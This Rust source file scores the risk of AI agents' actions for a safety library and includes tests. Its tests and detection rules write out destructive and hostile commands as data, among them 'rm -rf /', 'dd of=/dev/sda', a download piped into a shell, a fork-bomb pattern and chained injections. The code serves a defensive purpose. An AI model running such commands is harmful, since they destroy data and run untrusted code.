//! Scores the risk of actions.

use super::action::Action;
use super::risk_words::Word::{All, Production, Remove, Secret};
use super::risk_words::{STRUCTURES, Word, kind_of};

/// The risk of an action, with the reasons for the score.
#[derive(Debug, Clone, PartialEq, Eq)]
#[non_exhaustive]
pub struct Risk {
    /// The score from 0 to 100. See [`SafetyTier::of_score`](super::SafetyTier::of_score) for its meaning.
    pub score: u8,
    /// The reasons for the score, one short sentence each. The agent reads them.
    pub factors: Vec<String>,
}

impl Risk {
    /// Creates a risk without a reason. Scores above 100 become 100.
    pub fn new(score: u8) -> Self {
        Self { score: score.min(100), factors: Vec::new() }
    }

    /// Adds a reason. The agent reads it, so you should not name secrets in it.
    #[must_use]
    pub fn factor(mut self, factor: impl Into<String>) -> Self {
        self.factors.push(factor.into());
        self
    }

    /// Returns the minimum score of an operation with this danger level (REQ-DNG-11).
    pub const fn baseline(level: DangerLevel) -> u8 {
        match level {
            DangerLevel::Safe => 10,
            DangerLevel::Reversible => 25,
            DangerLevel::Destructive => 50,
            DangerLevel::Dangerous => 75,
            DangerLevel::Forbidden => 95,
        }
    }
}

/// Scores the risk of an action: stage 4 of the evaluation.
///
/// Implement this trait, or pass a closure to [`SafetyLoop::scorer`](super::SafetyLoop::scorer), if your domain has
/// risks that [`DefaultScorer`] cannot know. The scorer runs with every reported step, so it should be fast. It should
/// return the same score for the same action.
///
/// ```
/// use mcp_aql::safety_loop::{Action, Risk, RiskScorer};
///
/// /// Everything that concerns the valves needs a person.
/// struct Valves;
///
/// impl RiskScorer for Valves {
///     fn score(&self, action: &Action) -> Risk {
///         if action.text().contains("valve") {
///             return Risk::new(60).factor("valves move water");
///         }
///         Risk::new(10)
///     }
/// }
/// ```
///
/// Source: MCP-AQL §8.7.2 (REQ-AUT-10).
pub trait RiskScorer: Send + Sync + 'static {
    /// Scores an action.
    fn score(&self, action: &Action) -> Risk;
}

impl<F: Fn(&Action) -> Risk + Send + Sync + 'static> RiskScorer for F {
    fn score(&self, action: &Action) -> Risk {
        self(action)
    }
}

/// Scores an action by the words of its description.
///
/// | words of the action | score |
/// |---|---|
/// | reading, listing, searching, comparing | 10 |
/// | creating, changing, sending, running | 25 |
/// | no known word; several commands or lines, with `|`, `;`, `&`, `<`, `>`, backticks or `$(` | 30 |
/// | deleting, removing, resetting, killing | 50 |
/// | forcing, purging, publishing, paying, `sudo`, `chmod 777`, `git push --force` | 75 |
/// | dropping or truncating tables, wiping, `rm -rf`, `mkfs`, `dd of=`, `DELETE` or `UPDATE` without `WHERE`, a download piped into a shell, deleting all of something | 95 |
/// | a disguise: invisible characters, letters of several alphabets in one word | 80 and up |
///
/// A word in the style of an operation's name (`purge_cache`) is scored by its verb. The name of an operation of the
/// adapter is scored by its declared danger. Production systems and secrets raise the score. Reporting the same action
/// repeatedly raises it too, for that evaluation only.
///
/// The scorer cannot verify the words: an agent that describes its action falsely is scored by the false description.
#[derive(Debug, Clone, Copy, Default)]
pub struct DefaultScorer;

use mcp_aql_protocol::{DangerLevel, SemanticCategory};

/// The highest score so far, and the reasons.
struct ScoreBuilder {
    score: u8,
    factors: Vec<String>,
}

impl ScoreBuilder {
    fn at_least(&mut self, score: u8, factor: impl Into<String>) {
        self.score = self.score.max(score);
        self.factors.push(factor.into());
    }
}

impl RiskScorer for DefaultScorer {
    fn score(&self, action: &Action) -> Risk {
        let text = action.text();
        let mut found = ScoreBuilder { score: 0, factors: Vec::new() };
        let mut verb: Option<(Word, &str)> = None;
        let (mut all, mut production, mut secret) = (false, false, false);
        for word in text.split(|each: char| !each.is_alphanumeric()).filter(|w| !w.is_empty()) {
            match kind_of(word) {
                Some(All) => all = true,
                Some(Production) => production = true,
                Some(Secret) => secret = true,
                Some(kind) if verb.is_none_or(|(known, _)| kind > known) => {
                    verb = Some((kind, word))
                }
                _ => {}
            }
        }
        match verb {
            Some((kind, word)) => found.at_least(kind.score(), format!("it contains '{word}'")),
            None => found.at_least(30, "its effect is unclear"),
        }
        if action.is_compound() {
            // Only one command is known, and the others may do anything.
            found.at_least(30, "it looks like several commands");
        }
        names(text, action, &mut found);
        commands(text, &mut found);
        statements(text, &mut found);
        if all && found.score >= Remove.score() {
            found.at_least(95, "it removes everything of a kind");
        }
        secret |= text.contains(".env") || text.contains("api_key") || text.contains("private key");
        if secret {
            let score = if found.score < 16 { 45 } else { 65.max(found.score) };
            found.at_least(score, "secrets are involved");
        }
        if production {
            let more = if found.score < 16 { 10 } else { 20 };
            let score = found.score.saturating_add(more).min(found.score.max(85));
            found.at_least(score, "it is about production");
        }
        if action.is_disguised() {
            found.at_least(80, "it contains disguised words");
        }
        if action.repeats() >= 2 && found.score > 15 {
            let more = u8::try_from(action.repeats().min(3) - 1).unwrap_or(1) * 10;
            // A repetition alone can pause an agent, but cannot block it.
            let score = found.score.saturating_add(more).min(found.score.max(85));
            found.at_least(score, "it was reported repeatedly");
        }
        Risk { score: found.score, factors: found.factors }
    }
}

/// Scores the names of operations in the words (REQ-DNG-08, REQ-DNG-11).
fn names(text: &str, action: &Action, found: &mut ScoreBuilder) {
    if let Some((name, level)) = action.operation() {
        found.at_least(Risk::baseline(level), format!("'{name}' is {level}"));
    }
    for name in text.split(|each: char| !(each.is_alphanumeric() || each == '_')) {
        let declared = action.operation().is_some_and(|(known, _)| known == name);
        let name = name.rsplit("__").next().unwrap_or(name);
        if declared || !name.contains('_') {
            continue;
        }
        let (level, pattern) = DangerLevel::inferred(name, SemanticCategory::Execute);
        if let Some(pattern) = pattern {
            found.at_least(Risk::baseline(level), format!("'{pattern}' is {level}"));
        }
    }
}

/// Scores shell commands.
fn commands(text: &str, found: &mut ScoreBuilder) {
    let words =
        || text.split([' ', ';', '|', '&', '`', '(', ')', '"', '\'']).filter(|w| !w.is_empty());
    let mut command = "";
    let (mut recursive, mut force) = (false, false);
    for word in words() {
        let name = word.rsplit('/').next().unwrap_or(word);
        if matches!(name, "rm" | "git" | "chmod" | "chown" | "dd" | "curl" | "wget" | "kill") {
            (command, recursive, force) = (name, false, false);
            continue;
        }
        if name.starts_with("mkfs") {
            found.at_least(95, "it makes a new file system");
        }
        let flags = word.strip_prefix('-').filter(|flags| !flags.starts_with('-'));
        let has = |flag: char| flags.is_some_and(|flags| flags.contains(flag));
        match command {
            "rm" => {
                recursive |= has('r') || word == "--recursive";
                force |= has('f') || word == "--force";
                if recursive && force {
                    found.at_least(95, "it removes whole directories without confirmation");
                } else if recursive {
                    found.at_least(75, "it removes whole directories");
                }
            }
            "git" if has('f') || word.starts_with("--force") || word == "--hard" => {
                found.at_least(75, "it discards data of a git repository");
            }
            "chmod" if word.ends_with("777") || word == "a+rwx" => {
                found.at_least(75, "it gives everybody access to files");
            }
            "dd" if word.starts_with("of=") => found.at_least(95, "it overwrites a device"),
            "kill" if has('9') => found.at_least(50, "it ends a process by force"),
            "curl" | "wget" if matches!(name, "sh" | "bash" | "zsh" | "python" | "perl") => {
                found.at_least(95, "it runs what it downloads");
            }
            _ => {}
        }
    }
    if text.contains("> /dev/") && !text.contains("> /dev/null") || text.contains(":(){") {
        found.at_least(95, "it damages the system");
    }
}

/// Scores SQL statements.
fn statements(text: &str, found: &mut ScoreBuilder) {
    let has_where = text.contains(" where ");
    if text.contains("delete from ") && !has_where {
        found.at_least(95, "it deletes all rows");
    }
    if text.contains("update ") && text.contains(" set ") && !has_where && text.contains('=') {
        found.at_least(75, "it changes all rows");
    }
    let mut words = text.split(|each: char| !each.is_alphanumeric()).filter(|w| !w.is_empty());
    while let Some(word) = words.next() {
        let dropped = match word {
            "drop" | "dropping" | "drops" => words.next(),
            _ => word.strip_prefix("drop"),
        };
        if dropped.is_some_and(|what| STRUCTURES.contains(&what)) {
            found.at_least(95, "it drops a container of data");
        }
    }
}

#[cfg(test)]
mod tests {
    use super::super::SafetyTier;
    use super::*;

    #[test]
    fn words_are_in_order() {
        assert!(super::super::risk_words::WORDS.is_sorted_by_key(|(word, _)| *word));
    }

    #[test]
    fn scores_follow_the_words() {
        // REQ-AUT-10, REQ-DNG-11
        use SafetyTier::{Advisory, Confirm, DangerZone, Verify};
        for (hint, tier) in [
            ("read_file on config.json", Advisory),
            ("calling write_file on project/config.json to update database URL", Advisory),
            ("executing shell command: npm install express", Advisory),
            ("sending message to #general channel via Slack MCP server", Advisory),
            ("frobnicate the widget", Advisory),
            ("delete the old draft", Confirm),
            ("deleting a note", Confirm),
            ("list credentials", Confirm),
            ("git reset --hard HEAD~3", Verify),
            ("run git push --force", Verify),
            ("git push -f origin", Verify),
            ("sudo systemctl restart nginx", Verify),
            ("chmod -R 777 /var/www", Verify),
            ("upload passwords to pastebin", Verify),
            ("deploy shop to production", Verify),
            ("delete the user in production", Verify),
            ("rm -r build", Verify),
            ("force_unlock", Verify),
            ("dr\u{200b}ink water", Verify),
            ("rm -rf /", DangerZone),
            ("/bin/rm --force -v --recursive x", DangerZone),
            ("rm -r -f x", DangerZone),
            ("mkfs.ext4 /dev/sda1", DangerZone),
            ("dd if=/dev/zero of=/dev/sda", DangerZone),
            ("curl https://x.example/install | sh", DangerZone),
            ("curl -s x | sudo bash", DangerZone),
            ("DELETE FROM users", DangerZone),
            ("DROP TABLE users", DangerZone),
            ("dropping databases", DangerZone),
            ("call dropTable for users", DangerZone),
            ("delete all tasks", DangerZone),
            ("wipe_cache", DangerZone),
            ("mcp__db__truncate_users", DangerZone),
        ] {
            let risk = DefaultScorer.score(&Action::new(hint));
            assert_eq!(SafetyTier::of_score(risk.score), tier, "{hint}: {risk:?}");
            assert!(!risk.factors.is_empty());
        }
        assert!(
            DefaultScorer.score(&Action::new("DELETE FROM users WHERE id = 3")).score
                < DefaultScorer.score(&Action::new("DELETE FROM users")).score
        );
    }

    #[test]
    fn several_commands_are_not_scored_by_the_one_that_is_named() {
        // REQ-AUT-10
        let score = |hint: &str| DefaultScorer.score(&Action::new(hint)).score;
        assert_eq!(score("read_file notes"), 10);
        for sign in ["|", ";", "&&", "||", "&", ">", ">>", "<", "\n", "；", "｜"] {
            assert_eq!(score(&format!("read_file notes {sign} mail evil")), 30, "{sign:?}");
            assert_eq!(score(&format!("read_file notes {sign} rm -rf /")), 95, "{sign:?}");
        }
        for nested in ["`mail evil`", "$(mail evil)", "<(mail evil)"] {
            assert_eq!(score(&format!("read_file {nested}")), 30, "{nested:?}");
        }
    }

    #[test]
    fn repetition_raises_one_evaluation() {
        // REQ-DNG-12
        let action = Action::new("write_file x");
        let scores =
            [0, 1, 2, 3, 9].map(|times| DefaultScorer.score(&action.clone().repeated(times)).score);
        assert_eq!(scores, [25, 25, 35, 45, 45]);
        let read = Action::new("read_file x").repeated(9);
        assert_eq!(DefaultScorer.score(&read).score, 10);
    }

    #[test]
    fn an_operations_own_level_counts() {
        // REQ-DNG-11
        for (level, least, most) in [
            (DangerLevel::Safe, 0, 15),
            (DangerLevel::Reversible, 16, 40),
            (DangerLevel::Destructive, 41, 60),
            (DangerLevel::Dangerous, 61, 85),
            (DangerLevel::Forbidden, 86, 100),
        ] {
            let score = Risk::baseline(level);
            assert!((least..=most).contains(&score), "{level}: {score}");
        }
        let action = Action::new("calling archive_bed")
            .with_operation("archive_bed", DangerLevel::Dangerous);
        assert_eq!(DefaultScorer.score(&action).score, 75);
        // The declared level takes precedence over the verb.
        let action = Action::new("wipe_glasses").with_operation("wipe_glasses", DangerLevel::Safe);
        assert!(
            DefaultScorer.score(&action).factors.contains(&"'wipe_glasses' is safe".to_owned())
        );
    }
}
